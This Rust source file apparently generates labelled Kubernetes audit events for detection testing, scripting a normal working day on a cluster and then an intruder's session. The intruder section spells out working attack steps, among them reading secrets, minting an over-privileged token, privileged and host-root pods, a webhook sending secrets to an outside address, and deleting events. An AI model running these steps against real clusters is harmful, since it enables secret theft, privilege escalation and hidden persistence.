//! A day of a small cluster in half a minute, then an intruder's: what people and attackers do, with the real kubectl against
//! a real node. For whoever needs events of which it is known what they should be found to be.
//!
//! Some steps are meant to be denied; what a step must come to is part of it.

use std::error::Error;
use std::process::{Command, Stdio};

use crate::{Kubectl, Node};

const WEB: &str = "registry.example/shop/web";

/// What a step came to, if not what it should.
pub type Done = Result<(), Box<dyn Error>>;

/// Somebody does something.
#[derive(Debug, Clone, Copy)]
pub struct Step {
    /// The user's name, as the API server knows it.
    pub who: &'static str,
    /// In words.
    pub what: &'static str,
    /// It is refused, and should be.
    pub denied: bool,
}

/// The images that the story's pods run, made from the one that every node has.
pub fn prepare(node: &Node) -> Done {
    for name in [&format!("{WEB}:1.4"), &format!("{WEB}:1.5"), "docker.io/xmrig/xmrig:6.21"] {
        node.tag_image(Node::IMAGE, name)?;
    }
    Ok(())
}

/// The story of one node.
pub struct Story<'a> {
    node: &'a Node,
    before: Box<dyn FnMut(Step) + 'a>,
}

impl<'a> Story<'a> {
    /// `before` is told of each step before it is done.
    pub fn new(node: &'a Node, before: impl FnMut(Step) + 'a) -> Self {
        Story { node, before: Box::new(before) }
    }
}

impl std::fmt::Debug for Story<'_> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Story").field("node", &self.node.name()).finish_non_exhaustive()
    }
}

impl Story<'_> {
    /// Developers, operators, a CI and an auditor at work.
    pub fn ordinary_day(&mut self) -> Done {
        let node = self.node;
        let admin = node.kubectl();
        let alice = node.kubectl_as("alice@shop.example", &["developers"])?;
        let bob = node.kubectl_as("bob@shop.example", &["operators"])?;
        let carol = node.kubectl_as("carol@shop.example", &["auditors"])?;

        self.note(
            "kubernetes-super-admin",
            "sets up the namespace `shop`, its roles and the CI's service account",
        );
        k(&admin, "create namespace shop")?;
        k(&admin, "create namespace ci")?;
        k(&admin, "create rolebinding developers -n shop --clusterrole=edit --group=developers")?;
        k(&admin, "create clusterrolebinding operators --clusterrole=cluster-admin --group=operators")?;
        k(&admin, "create clusterrolebinding auditors --clusterrole=view --group=auditors")?;
        k(&admin, "create serviceaccount deployer -n ci")?;
        k(&admin, "create rolebinding ci-deploys -n shop --clusterrole=edit --serviceaccount=ci:deployer")?;
        k(&admin, "create quota shop -n shop --hard=pods=20,secrets=20")?;

        self.note(
            "alice@shop.example",
            "deploys the shop: config map, secret, deployment, service, cron job",
        );
        k(&alice, "create configmap web -n shop --from-literal=greeting=hello --from-literal=workers=2")?;
        k(&alice, "create secret generic database -n shop --from-literal=password=not-a-real-password")?;
        k(&alice, "create serviceaccount web -n shop")?;
        alice.apply(&deployment())?;
        k(&alice, "expose deployment web -n shop --port=80 --target-port=8080")?;
        let job = "create cronjob report -n shop --schedule=0_3_*_*_* --image=registry.example/shop/web:1.4 -- true";
        let job: Vec<String> = job.split(' ').map(|word| word.replace('_', " ")).collect();
        alice.run(&job)?;
        k(&alice, "rollout status deployment/web -n shop --timeout=90s")?;

        self.note("alice@shop.example", "looks around: pods, logs, a description");
        k(&alice, "get pods,services,configmaps -n shop")?;
        k(&alice, "logs deployment/web -n shop")?;
        k(&alice, "describe deployment web -n shop")?;
        k(&alice, "top pods -n shop").ok();

        self.note("system:serviceaccount:ci:deployer", "rolls out 1.5 with a bound token, then scales");
        let token = k(&admin, "create token deployer -n ci --duration=1h")?;
        let ci = node.kubectl_with_token("deployer", token.trim())?;
        k(&ci, &format!("set image deployment/web -n shop web={WEB}:1.5"))?;
        k(&ci, "rollout status deployment/web -n shop --timeout=90s")?;
        k(&ci, "scale deployment/web -n shop --replicas=3")?;
        k(&ci, "rollout status deployment/web -n shop --timeout=90s")?;

        self.note("alice@shop.example", "edits the config map and restarts; takes a look at the history");
        k(&alice, r#"patch configmap web -n shop -p {"data":{"greeting":"good-day"}}"#)?;
        k(&alice, "rollout restart deployment/web -n shop")?;
        k(&alice, "rollout status deployment/web -n shop --timeout=90s")?;
        k(&alice, "rollout history deployment/web -n shop")?;

        self.note("bob@shop.example", "operates: nodes, events, a dry run, a label, scaling down");
        k(&bob, "get nodes -o wide")?;
        k(&bob, "get events -A")?;
        k(&bob, "label namespace shop tier=production")?;
        k(&bob, "scale deployment/web -n shop --replicas=2 --dry-run=server")?;
        k(&bob, "scale deployment/web -n shop --replicas=2")?;
        k(&bob, "delete cronjob report -n shop")?;

        self.note("carol@shop.example", "reads what an auditor may");
        k(&carol, "get deployments,pods -A")?;
        k(&carol, "auth whoami")?;
        k(&carol, "auth can-i list secrets -n shop").ok();
        Ok(())
    }

    /// Stolen credentials, and what is done with them. The shop of [`Story::ordinary_day`] must be there.
    pub fn intruder(&mut self) -> Done {
        let node = self.node;
        let admin = node.kubectl();
        // The stolen credentials: a developer's, and those of a service account that may do far too much.
        let mallory = node.kubectl_as("mallory@shop.example", &["developers"])?;
        k(&admin, "create serviceaccount backup -n shop")?;
        k(
            &admin,
            "create clusterrolebinding backup --clusterrole=cluster-admin --serviceaccount=shop:backup",
        )?;

        self.denied(
            "mallory@shop.example",
            "tries what a developer may not: secrets of kube-system, nodes, roles",
        );
        refused(&mallory, "get secrets -n kube-system")?;
        refused(&mallory, "get nodes")?;
        refused(
            &mallory,
            "create clusterrolebinding mine --clusterrole=cluster-admin --user=mallory@shop.example",
        )?;
        k(&mallory, "auth can-i --list -n shop")?;

        self.note("mallory@shop.example", "reads the shop's secrets");
        k(&mallory, "get secrets -n shop -o yaml")?;

        self.note("mallory@shop.example", "requests a token of the service account `backup`");
        let token = k(&mallory, "create token backup -n shop")?;
        let backup = node.kubectl_with_token("backup", token.trim())?;

        self.note("system:serviceaccount:shop:backup", "lists all secrets of the cluster with that token");
        k(&backup, "get secrets -A")?;

        self.note("system:serviceaccount:shop:backup", "runs a shell in a running pod (exec)");
        k(
            &backup,
            "exec deployment/web -n shop -- sh -c id;cat</var/run/secrets/kubernetes.io/serviceaccount/token",
        )?;

        self.note("system:serviceaccount:shop:backup", "starts a privileged pod");
        backup.apply(&pod("tool", "securityContext: {privileged: true}", "", ""))?;

        self.note("system:serviceaccount:shop:backup", "starts a pod that mounts the node's root (hostPath)");
        let volume = "volumes: [{name: root, hostPath: {path: /}}]";
        backup.apply(&pod("root", "volumeMounts: [{name: root, mountPath: /host}]", volume, ""))?;

        self.note(
            "system:serviceaccount:shop:backup",
            "starts a pod in the node's network and process namespaces",
        );
        backup.apply(&pod("net", "", "hostNetwork: true", "hostPID: true"))?;

        self.note("system:serviceaccount:shop:backup", "starts a coin miner");
        k(&backup, "run worker -n shop --image=docker.io/xmrig/xmrig:6.21 -- sleep 600")?;

        self.note("system:serviceaccount:shop:backup", "binds `cluster-admin` to a user of its own");
        k(&backup, "create clusterrolebinding helper --clusterrole=cluster-admin --user=helper")?;

        self.note("system:serviceaccount:shop:backup", "lets anonymous users view everything");
        k(&backup, "create clusterrolebinding open --clusterrole=view --user=system:anonymous")?;

        self.note("system:anonymous", "looks in without any credentials");
        let anonymous = format!("https://{}:6443/api/v1/namespaces/shop/pods", node.address());
        let anonymously = Command::new("curl").args(["-skf", "--max-time", "10", &anonymous]).output()?;
        if !anonymously.status.success() {
            return Err("curl could not ask anonymously".into());
        }

        self.note("system:serviceaccount:shop:backup", "makes a role that may do everything");
        k(&backup, "create clusterrole everything --verb=* --resource=*.*")?;

        self.note("system:serviceaccount:shop:backup", "impersonates the operators' bob");
        k(&backup, "get secrets -n kube-system --as=bob@shop.example --as-group=operators")?;

        self.note("system:serviceaccount:shop:backup", "reaches the kubelet through the node's proxy");
        k(&backup, "get --raw /api/v1/nodes/cp1/proxy/pods")?;

        self.note(
            "system:serviceaccount:shop:backup",
            "has a certificate for `system:masters` asked for (denied) and one for a user approved",
        );
        certificate(&backup)?;

        self.note("system:serviceaccount:shop:backup", "registers a webhook that would see all secrets");
        backup.apply(WEBHOOK)?;

        self.note("system:serviceaccount:shop:backup", "opens a node port");
        k(&backup, "expose deployment/web -n shop --name=door --type=NodePort --port=80")?;

        self.note("system:serviceaccount:shop:backup", "adds a debugging container to a running pod");
        k(&backup, &format!("debug -n shop tool --image={} -- true", Node::IMAGE)).ok();

        self.note(
            "system:serviceaccount:shop:backup",
            "covers its tracks: deletes the events, the pods, the webhook",
        );
        k(&backup, "delete events --all -n shop")?;
        k(&backup, "delete pod tool root net worker -n shop --grace-period=0 --force")?;
        k(&backup, "delete validatingwebhookconfiguration audit-helper")?;

        self.note("system:serviceaccount:shop:backup", "deletes a namespace");
        k(&backup, "delete namespace ci --timeout=60s")?;
        Ok(())
    }

    fn note(&mut self, who: &'static str, what: &'static str) {
        self.step(who, what, false);
    }

    fn denied(&mut self, who: &'static str, what: &'static str) {
        self.step(who, what, true);
    }

    fn step(&mut self, who: &'static str, what: &'static str, denied: bool) {
        (self.before)(Step { who, what, denied });
    }
}

/// kubectl with words separated by spaces.
fn k(kubectl: &Kubectl, words: &str) -> Result<String, Box<dyn Error>> {
    // A shell script after `sh -c` is one word.
    let arguments: Vec<&str> = match words.split_once(" sh -c ") {
        Some((before, script)) => before.split(' ').chain(["sh", "-c", script]).collect(),
        None => words.split(' ').collect(),
    };
    Ok(kubectl.run(&arguments)?)
}

fn refused(kubectl: &Kubectl, words: &str) -> Done {
    match k(kubectl, words) {
        Err(e) if e.to_string().contains("Forbidden") || e.to_string().contains("forbidden") => Ok(()),
        Err(e) => Err(e),
        Ok(said) => Err(format!("`{words}` should have been refused, but said {said}").into()),
    }
}

fn deployment() -> String {
    format!(
        "apiVersion: apps/v1
kind: Deployment
metadata: {{name: web, namespace: shop, labels: {{app: web}}}}
spec:
  replicas: 2
  selector: {{matchLabels: {{app: web}}}}
  template:
    metadata: {{labels: {{app: web}}}}
    spec:
      serviceAccountName: web
      terminationGracePeriodSeconds: 1
      containers:
      - name: web
        image: {WEB}:1.4
        command: [sh, -c, 'echo serving; sleep 3600']
        envFrom: [{{configMapRef: {{name: web}}}}]
        env: [{{name: PASSWORD, valueFrom: {{secretKeyRef: {{name: database, key: password}}}}}}]
"
    )
}

fn pod(name: &str, container: &str, spec: &str, more: &str) -> String {
    format!(
        "apiVersion: v1
kind: Pod
metadata: {{name: {name}, namespace: shop}}
spec:
  containers:
  - name: {name}
    image: {WEB}:1.5
    command: [sleep, '600']
    {container}
  {spec}
  {more}
"
    )
}

const WEBHOOK: &str = "apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata: {name: audit-helper}
webhooks:
- name: helper.shop.example
  clientConfig: {url: 'https://203.0.113.7/secrets'}
  rules: [{apiGroups: [''], apiVersions: [v1], operations: [CREATE, UPDATE], resources: [secrets]}]
  failurePolicy: Ignore
  timeoutSeconds: 1
  sideEffects: None
  admissionReviewVersions: [v1]
";

/// Asks for two certificates, of which admission refuses the first, and has the second approved.
fn certificate(kubectl: &Kubectl) -> Done {
    for (name, subject) in [("masters", "/O=system:masters/CN=helper"), ("helper", "/CN=helper")] {
        let made = Command::new("openssl")
            .args(["req", "-new", "-newkey", "rsa:2048", "-nodes", "-keyout", "/dev/null", "-subj", subject])
            .output()?;
        let mut base64 =
            Command::new("base64").arg("-w0").stdin(Stdio::piped()).stdout(Stdio::piped()).spawn()?;
        std::io::Write::write_all(&mut base64.stdin.take().ok_or("no pipe")?, &made.stdout)?;
        let request = String::from_utf8(base64.wait_with_output()?.stdout)?;
        let asked = kubectl.run_with_input(
            &["create", "-f", "-"],
            &format!(
                "apiVersion: certificates.k8s.io/v1
kind: CertificateSigningRequest
metadata: {{name: {name}}}
spec:
  request: {request}
  signerName: kubernetes.io/kube-apiserver-client
  expirationSeconds: 86400
  usages: [client auth]
"
            ),
        );
        if asked.is_ok() != (name == "helper") {
            return Err(format!("the request `{name}` went otherwise than it should: {asked:?}").into());
        }
    }
    k(kubectl, "certificate approve helper")?;
    Ok(())
}
